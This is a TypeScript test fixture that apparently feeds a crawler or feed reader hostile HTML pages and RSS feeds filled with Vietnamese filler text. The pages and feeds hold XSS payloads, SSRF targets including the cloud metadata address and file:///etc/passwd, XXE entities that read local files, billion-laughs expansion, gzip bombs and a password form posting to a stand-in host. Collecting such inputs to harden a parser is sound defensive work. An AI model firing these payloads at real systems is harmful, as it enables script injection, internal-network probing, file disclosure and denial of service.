import { gzipSync } from 'node:zlib'

/** What a hostile host sends. */
export type Hostile = { body: string | Buffer; headers?: Record<string, string> }

const text =
  'Nước sông lên nhanh trong đêm, cả xã phải đưa người già và trẻ em lên đồi trước khi trời sáng. '.repeat(8)
const page = (inner: string, head = ''): Hostile => ({
  body: `<!doctype html><html><head><meta charset="utf-8"><title>Trang lạ</title>${head}</head><body><article><h1>Trang lạ</h1><p>${text}</p>${inner}<p>${text}</p></article></body></html>`,
})
const feed = (inner: string, before = ''): Hostile => ({
  body: `<?xml version="1.0"?>${before}<rss version="2.0"><channel><title>Lạ</title>${inner}</channel></rss>`,
  headers: { 'content-type': 'application/rss+xml' },
})
const entry = (link: string, more = '') => `<item><title>Tin lạ</title><link>${link}</link>${more}</item>`
const bomb = () => gzipSync(Buffer.alloc(40_000_000, 32))

/** Pages that would run, load, lead or eat something. */
export const hostilePages: Record<string, Hostile> = {
  script: page('<script>alert(1)</script>'),
  'script-in-svg': page(
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  ),
  'on-error': page('<img src=x onerror=alert(1)>'),
  'on-load': page('<body onload=alert(1)>'),
  'javascript-link': page('<a href="javascript:alert(1)">Xem</a>'),
  'javascript-with-control': page(
    '<a href="java&#10;script:alert(1)">Xem</a><a href=" &#1;javascript:alert(1)">x</a>',
  ),
  'data-link': page('<a href="data:text/html,<script>alert(1)</script>">Xem</a>'),
  iframe: page('<iframe src="http://10.0.0.1/"></iframe>'),
  'iframe-srcdoc': page('<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  object: page('<object data="x.swf"></object><embed src="x.swf">'),
  form: page('<form action="http://bay.example/"><input name=matkhau><button>Vào</button></form>'),
  'meta-refresh': page('', '<meta http-equiv="refresh" content="0;url=http://10.0.0.1/">'),
  base: page('<a href="/x">x</a>', '<base href="javascript:alert(1)//">'),
  style: page(
    '<p style="background:url(javascript:alert(1));position:fixed">x</p><style>@import "http://10.0.0.1/x.css"</style>',
  ),
  template: page(
    '<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)></noscript>',
  ),
  math: page(
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  ),
  comment: page('<!--><script>alert(1)</script>--><!-- --!><img src=x onerror=alert(1)>'),
  cdata: page('<![CDATA[<script>alert(1)</script>]]>'),
  'half-tag': page('<img src="x" onerror="alert(1)" <p>'),
  'null-bytes': page('<scr\u0000ipt>alert(1)</scr\u0000ipt>\u0008\u001b[31m'),
  'text-turned-round': page('<p>\u202Egnud ión\u202C\u2066x\u2069</p>'),
  'inner-picture': page('<img src="http://169.254.169.254/latest"><img src="file:///etc/passwd">'),
  'canonical-elsewhere': page('', '<link rel="canonical" href="http://10.0.0.1/admin">'),
  'title-with-markup': page('', '<meta property="og:title" content="<script>alert(1)</script>">'),
  'json-ld-lies': page(
    '',
    '<script type="application/ld+json">{"@type":"NewsArticle","headline":{"a":[1]},"datePublished":["x"],"__proto__":{"a":1}}</script>',
  ),
  'json-ld-deep': page('', `<script type="application/ld+json">${'['.repeat(50_000)}</script>`),
  'deep-nesting': page('<div>'.repeat(30_000)),
  'many-attributes': page(`<p ${Array.from({ length: 20_000 }, (_, n) => `a${n}=1`).join(' ')}>x</p>`),
  'long-line': page(`<p>${'a'.repeat(900_000)}</p>`),
  'many-links': page('<a href="/x">x</a>'.repeat(20_000)),
  entities: page(`<p>${'&lt;script&gt;'.repeat(5000)}</p>`),
  'false-utf-16': { body: Buffer.from('\uFEFF<h1>Trang lạ</h1><script>alert(1)</script>', 'utf16le') },
  'utf-7': { body: `<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4- ${text}` },
  'no-html': { body: Buffer.from(Array.from({ length: 5000 }, (_, n) => (n * 73) % 256)) },
  empty: { body: '' },
  bomb: {
    get body() {
      return bomb()
    },
    headers: { 'content-type': 'text/html', 'content-encoding': 'gzip' },
  },
  'bomb-in-bomb': {
    get body() {
      return gzipSync(bomb())
    },
    headers: { 'content-type': 'text/html', 'content-encoding': 'gzip, gzip' },
  },
  'false-gzip': {
    body: 'không phải gzip',
    headers: { 'content-type': 'text/html', 'content-encoding': 'gzip' },
  },
}

/** Feeds that would read files, grow, or lead into the house. */
export const hostileFeeds: Record<string, Hostile> = {
  'billion-laughs': feed(
    entry('/x', '<description>&i;</description>'),
    `<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">${[...'bcdefghi'].map((name, n) => `<!ENTITY ${name} "${`&${'abcdefgh'[n]};`.repeat(10)}">`).join('')}]>`,
  ),
  'file-entity': feed(
    entry('/x', '<description>&x;</description>'),
    '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
  ),
  'parameter-entity': feed(entry('/x'), '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://10.0.0.1/x.dtd"> %x;]>'),
  'inner-links': feed(entry('http://10.0.0.1/bi-mat') + entry('file:///etc/passwd') + entry('gopher://x/')),
  'script-links': feed(entry('javascript:alert(1)') + entry('data:text/html,x')),
  'markup-in-title': feed(
    '<item><title><![CDATA[<img src=x onerror=alert(1)>Tin]]></title><link>/x</link></item>',
  ),
  'deep-xml': feed('<a>'.repeat(40_000)),
  'many-entries': feed(Array.from({ length: 30_000 }, (_, n) => entry(`/tin-la-${n}`)).join('')),
}
